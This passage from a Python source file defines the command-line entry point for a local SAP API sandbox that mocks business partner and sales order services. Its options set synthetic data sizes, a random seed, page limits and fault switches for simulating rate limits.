        file=sys.stderr,
        flush=True,
    )
    serve(system, host, port, log_level=log_level)


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m sandbox sap [options]``: serve the SAP sandbox."""
    parser = argparse.ArgumentParser(
        prog="python -m sandbox sap",
        description="Serve the SAP sandbox: API_BUSINESS_PARTNER and API_SALES_ORDER_SRV on one host.",
    )
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8401)
    parser.add_argument("--partners", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--max-page-size", type=int, default=1000)
    parser.add_argument("--changes-on-start", type=int, default=0)
    parser.add_argument("--orders", type=int, default=5_000, help="sales orders (API_SALES_ORDER_SRV)")
    parser.add_argument(
        "--fault",
        action="append",
        default=[],
        metavar="NAME=VALUE",
        help="fault switch, repeatable (e.g. rate_limit_every_n=5, retry_after_s=0)",
    )
    parser.add_argument("--log-level", default="info")
    args = parser.parse_args(argv)
    try:
        faults = parse_fault_assignments(args.fault)
        serve_sap(
            args.host,
            args.port,
            args.partners,
            args.seed,
            args.max_page_size,
            args.changes_on_start,
            faults,
            orders=args.orders,
            log_level=args.log_level,
        )
    except ValueError as exc:
        parser.error(str(exc))
    return 0


if __name__ == "__main__":
    sys.exit(main())
